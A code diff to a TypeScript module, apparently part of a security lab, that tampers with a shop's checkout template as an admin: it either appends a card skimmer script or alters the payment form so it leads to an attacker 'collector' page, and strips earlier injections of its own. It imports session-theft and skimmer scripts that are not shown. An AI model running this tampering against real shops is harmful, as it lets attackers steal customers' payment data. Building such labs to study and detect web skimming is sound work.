@@ -9,14 +9,16 @@ import { request } from '../loopback/request.ts';
 import { ADMIN_COOKIE, type Admin } from '../shop/admin-routes.ts';
 import type { Variant } from '../shop/state.ts';
 import type { LabEvent } from '../surroundings.ts';
+import { alteredLink, type LinkAttack, withoutLinkAttacks } from './link-attacks.ts';
 import { type AdminBrowser, lookAsAdmin } from './look-as-admin.ts';
 import { sessionThief, skimmer } from './scripts.ts';
 
 export const PLACEMENTS = ['inline', 'external'] as const;
 
 export type AttackOrder = {
-  /** `js`: a skimmer on the checkout page. `link`: the form leads to a fake payment page. */
+  /** `js`: a skimmer on the checkout page. `link`: the page that leads to the provider is altered as `page` says. */
   readonly variant: Variant;
+  readonly page: LinkAttack;
   readonly channel: Channel;
   readonly encoding: Encoding;
   /** Where the skimmer stands: in the page, or in a file of the collector that the page loads. */
@@ -80,16 +82,16 @@ const alterCheckout = async ({ shop, collector }: Target, order: AttackOrder, se
   const changed =
     order.variant === 'js'
       ? `${clean.trimEnd()}\n${ours}\n`
-      : clean.replace('action="{{pspOrigin}}/pay"', `action="${collector.origin}/pay"`);
+      : alteredLink(clean, order.page, collector.origin);
   const saved = await request(address, { headers, body: { formToken, template: changed } });
   return saved.status === 303 && changed !== clean;
 };
 
 /** An earlier attack of ours is replaced, not doubled. */
 const withoutOurs = (template: string, collector: string): string =>
-  template
-    .replaceAll(/\n<script\b[^>]*>[\s\S]*?<\/script>/g, (script) => (script.includes(collector) ? '' : script))
-    .replace(`action="${collector}/pay"`, 'action="{{pspOrigin}}/pay"');
+  withoutLinkAttacks(template, collector).replaceAll(/\n<script\b[^>]*>[\s\S]*?<\/script>/g, (script) =>
+    script.includes(collector) ? '' : script,
+  );
 
 const unescapeHtml = (text: string): string =>
   text
